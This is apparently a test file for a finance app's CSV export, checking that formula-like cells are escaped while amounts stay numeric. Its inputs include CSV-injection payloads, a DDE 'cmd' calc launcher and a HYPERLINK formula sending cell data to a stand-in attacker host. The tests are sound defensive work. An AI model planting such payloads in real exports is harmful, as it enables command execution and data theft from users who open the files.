/**
 * CSV export never writes a formula: text cells beginning with =, +, -, @, TAB or CR get a leading '
 * (csv-stringify's escape_formulas, OWASP's advice), while amounts in minor units stay numbers, negative
 * ones included (docs/decisions.md, "CSV export: formulas escaped, amounts exempt").
 */
import { randomUUID } from "node:crypto";
import { expect } from "chai";
import { exportAccount, exportCsv, type AccountExport } from "../../src/portability/export.js";
import { engine } from "../helpers/database.js";
import { startTestServer, type TestServer } from "../helpers/server.js";

/** The cells of one CSV line: enough of RFC 4180 for these files (quoted cells, doubled quotes, no line breaks). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    out.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!);
    if (m[2] === "") break;
  }
  return out;
}

function table(text: string): Record<string, string>[] {
  const [head, ...lines] = text.trim().split("\n");
  const columns = cells(head!);
  return lines.map((l) => Object.fromEntries(cells(l).map((c, i) => [columns[i], c])));
}

describe(`CSV export escapes formulas (${engine})`, function () {
  this.timeout(60_000);
  let server: TestServer;
  before(async () => {
    server = await startTestServer();
  });
  after(async () => server.close());

  it("payees and notes written through the tools come out escaped; amounts stay numbers", async () => {
    const user = await server.createUser();
    const { wallet } = await server.call(
      "create_wallet",
      { name: "=cmd|' /C calc'!A0", type: "cash", currency: "USD", idempotency_key: randomUUID() },
      user.token,
    );
    const payees = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\uFF1D1+1", "Plain Shop"];
    for (const payee of payees) {
      await server.call(
        "create_transaction",
        { wallet_id: wallet.id, date: "2026-11-01", amount: "12.50", direction: "expense", payee, notes: "=1+2", idempotency_key: randomUUID() },
        user.token,
      );
    }
    const files = await exportCsv(await exportAccount(server.db, user.id));
    const rows = table(files["transactions.csv"]!);
    expect(rows.map((r) => r.payee).sort()).to.deep.equal(payees.map((p) => (p === "Plain Shop" ? p : `'${p}`)).sort());
    for (const r of rows) {
      expect(r.notes).to.equal("'=1+2");
      expect(r.amount_minor, "a negative amount is a number, not a formula").to.equal("-1250");
    }
    expect(table(files["wallets.csv"]!)[0]!.name).to.equal("'=cmd|' /C calc'!A0");
  });

  it("TAB and CR at the start of a cell are escaped, and amounts past 2^53 stay plain numbers", async () => {
    const data: AccountExport = {
      format: "finance-mcp-export",
      version: 1,
      exported_at: "2026-11-25T00:00:00.000Z",
      schema: "",
      user: { email: "@evil.example", timezone: "UTC", default_currency: "USD" },
      wallets: [],
      transactions: [
        { id: "txn_1", amount_minor: "-90071992547409930", payee: "\tTAB", notes: "\rCR", tags: ["-x", "y"] },
        { id: "txn_2", amount_minor: -5, payee: "-", notes: null, tags: [] },
      ],
      budgets: [],
      goals: [],
      goal_contributions: [],
      bill_reminders: [],
      rules: [],
      exchange_rates: [],
      audit_log: [],
    };
    const files = await exportCsv(data);
    const rows = table(files["transactions.csv"]!.replace(/\r(?!\n)/g, "\\r"));
    expect(rows[0]).to.include({ amount_minor: "-90071992547409930", payee: "'\tTAB", notes: "'\\rCR", tags: "'-x|y" });
    expect(rows[1]).to.include({ amount_minor: "-5", payee: "'-" });
    expect(table(files["user.csv"]!)[0]!.email).to.equal("'@evil.example");
  });
});
